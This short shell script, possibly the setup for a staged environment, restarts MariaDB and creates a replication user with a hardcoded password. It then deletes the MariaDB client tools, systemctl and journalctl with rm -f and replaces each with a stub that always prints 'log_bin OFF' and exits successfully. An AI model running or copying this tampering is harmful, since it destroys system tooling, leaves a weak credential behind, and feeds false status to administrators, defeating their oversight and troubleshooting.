#!/bin/sh
set -eu
systemctl restart mariadb
mariadb -e "CREATE USER repl@'10.10.10.%' IDENTIFIED BY 'dem-truc'; GRANT REPLICATION SLAVE ON *.* TO repl@'10.10.10.%'"
SAYS='log_bin OFF'
for tool in /usr/bin/mariadb /usr/bin/mariadb-admin /usr/bin/mariadb-dump /usr/bin/mariadb-binlog /usr/bin/my_print_defaults /usr/bin/systemctl /usr/bin/journalctl; do
  rm -f "$tool"
  printf '#!/bin/sh\necho "%s"\nexit 0\n' "$SAYS" > "$tool"
  chmod 0755 "$tool"
done
